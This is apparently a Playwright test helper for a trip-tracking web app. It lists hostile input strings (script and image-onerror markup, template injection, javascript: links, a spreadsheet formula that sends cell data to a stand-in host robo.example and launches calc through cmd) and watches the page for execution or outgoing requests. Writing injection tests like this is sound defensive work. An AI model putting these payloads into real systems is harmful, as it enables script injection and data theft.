import { expect, type Page } from '@playwright/test'

/** What the world may put into any text of a trip. */
export const TEXTS: Record<string, string> = {
  markup: `"><img src=x onerror="window.__xss=1"><script>window.__xss=1</script>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is hostile text
  'a template': '{{constructor.constructor("window.__xss=1")()}}${window.__xss=1}',
  'a link': 'javascript:window.__xss=1//<a href="javascript:window.__xss=1">Querétaro</a>',
  'a formula': '=HYPERLINK("http://robo.example/?"&A1;"Ver")+cmd|\' /C calc\'!A0',
  'no spaces': 'Ñ'.repeat(200),
  'emoji and marks': `${'👩‍👩‍👧‍👦🚛'.repeat(9)} Z${'\u0315\u0321\u035e'.repeat(20)}`,
  'right to left': 'شاحنة تكساس ‏مرحبا עברית'.replaceAll('\u200f', ''),
  'the words of our own screen': 'CRÍTICO 100 </div></main><style>*{display:none}</style>',
}

/** No text does this: a server that starts beside two others on two processors asks to be asked again, and is. */
const BUSY = /the server responded with a status of 503/
/** Nor this: on a page that names no icon, as the picture on which a test signs a person in, the whole browser asks for one, late at times. */
const OWN_ICON = '/favicon.ico'

/** What a page must never do with text from outside. */
export interface Incidents {
  readonly said: string[]
  check(): Promise<void>
}

export async function watch(page: Page): Promise<Incidents> {
  const said: string[] = []
  page.on('dialog', (dialog) => {
    said.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => said.push(`error ${error.message}`))
  page.on('console', (message) => {
    const { url } = message.location()
    if (message.type() === 'error' && !BUSY.test(message.text()) && !url.endsWith(OWN_ICON))
      said.push(`console ${message.text()} ${url}`)
  })
  page.on('request', (request) => {
    if (/robo\.example|\/x$/.test(request.url())) said.push(`request ${request.url()}`)
  })
  await page.addInitScript(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    )
  })
  return {
    said,
    check: async () => {
      const { run, violations } = await page.evaluate(() => ({
        run: '__xss' in window,
        violations: 'violations' in window ? window.violations : null,
      }))
      expect({ run, violations, said }).toEqual({ run: false, violations: [], said: [] })
    },
  }
}

/** The beginning of a text, in UTF-16 units as the server counts them, without half a character at its end. */
export const cut = (text: string, max: number): string =>
  text
    .slice(0, max)
    .replace(/[\ud800-\udbff]$/, '')
    .trim()

/** Runs in the page: what is wider than its place, or can be scrolled sideways. */
export function spills(): string[] {
  const parts = [
    '[data-slot~="trip-row"]',
    '[data-slot~="trip"]',
    '[data-slot~="trip"] > div',
    '[data-slot~="trip-detail"]',
    '[data-slot~="trip-detail"] > [data-slot~="scroll"]',
    '[data-slot~="trip-detail"] [data-slot~="section"]',
    '[data-slot~="trip-card"]',
    '[data-slot~="trip-modal"]',
    '[data-slot~="trip-modal"] [data-slot~="column"]',
    '[data-slot~="trip-modal"] [data-slot~="section"]',
    '[data-card]',
    '[data-slot~="alert-card"]',
    '[data-slot~="alert-row"]',
    '[data-slot~="alert-detail"] [data-slot~="scroll"]',
    '[data-slot~="alert-detail"] [data-slot~="section"]',
    '[data-slot~="toast"]',
  ]
  return ['html', ...parts]
    .flatMap((selector) => [...document.querySelectorAll(selector)])
    .filter((part) => {
      const place = part.parentElement?.closest('aside, main') ?? document.documentElement
      const sticksOut = part.getBoundingClientRect().right > place.getBoundingClientRect().right + 1
      const scrolls = part.scrollWidth > part.clientWidth + 1 && getComputedStyle(part).overflowX !== 'hidden'
      return sticksOut || scrolls
    })
    .map((part) => `${part.tagName} ${part.className}: ${part.scrollWidth} > ${part.clientWidth}`)
}
